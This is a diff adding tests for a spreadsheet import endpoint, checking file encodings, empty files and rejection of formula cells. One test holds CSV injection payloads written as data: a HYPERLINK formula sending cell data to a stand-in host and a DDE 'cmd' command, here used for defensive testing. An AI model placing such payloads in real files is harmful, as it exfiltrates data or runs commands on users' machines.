@@ -195,3 +195,59 @@ def test_a_binary_file_is_refused_with_a_reason_and_nothing_stored(association, 
     assert answer.status_code == 400
     assert "file" in answer.json()["errors"]
     assert Mission.objects.count() == 0
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
+def test_any_encoding_of_a_french_spreadsheet_imports(association, owner_key, codes, encoding):
+    text = "\r\n".join([HEADER, good_line(codes, "Trésorerie à l'équilibre")])
+    upload = SimpleUploadedFile("missions.csv", text.encode(encoding))
+    answer = client_for(secret=owner_key).post(
+        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
+    )
+    assert answer.status_code == 201, answer.json()
+    assert Mission.objects.get().title == "Trésorerie à l'équilibre"
+
+
+@pytest.mark.parametrize(
+    "content", [b"", HEADER.encode(), b"\n\n"], ids=["empty", "header", "blank"]
+)
+def test_an_empty_file_is_refused_with_a_reason(association, owner_key, content):
+    upload = SimpleUploadedFile("missions.csv", content)
+    answer = client_for(secret=owner_key).post(
+        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
+    )
+    assert answer.status_code == 400
+    assert "file" in answer.json()["errors"]
+
+
+def test_formula_cells_are_refused_row_by_row(association, owner_key, codes):
+    upload = csv_file(
+        good_line(codes),
+        good_line(codes, '=HYPERLINK("http://evil.example/?"&A1;"Clic")'),
+        good_line(codes, "-2+3+cmd|' /C calc'!A0"),
+        good_line(codes, "- Atelier - 2 h"),  # a dash is text, not a formula
+    )
+    answer = client_for(secret=owner_key).post(
+        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
+    )
+    assert answer.status_code == 400
+    rows = answer.json()["rows"]
+    assert [row["row"] for row in rows] == [3, 4]
+    assert "formule" in rows[0]["errors"]["title"][0]
+    assert Mission.objects.count() == 0
+
+
+def test_formulas_in_a_workbook_are_refused_not_evaluated(association, owner_key, codes):
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append(HEADER.split(";"))
+    sheet.append(["Site", "=1+1", codes["cause"], codes["skills"][0], "remote", None, 12])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    upload = SimpleUploadedFile("missions.xlsx", buffer.getvalue())
+    answer = client_for(secret=owner_key).post(
+        "/api/v1/imports/missions/", {"file": upload}, format="multipart"
+    )
+    assert answer.status_code == 400
+    assert "summary" in answer.json()["rows"][0]["errors"]
+    assert Mission.objects.count() == 0
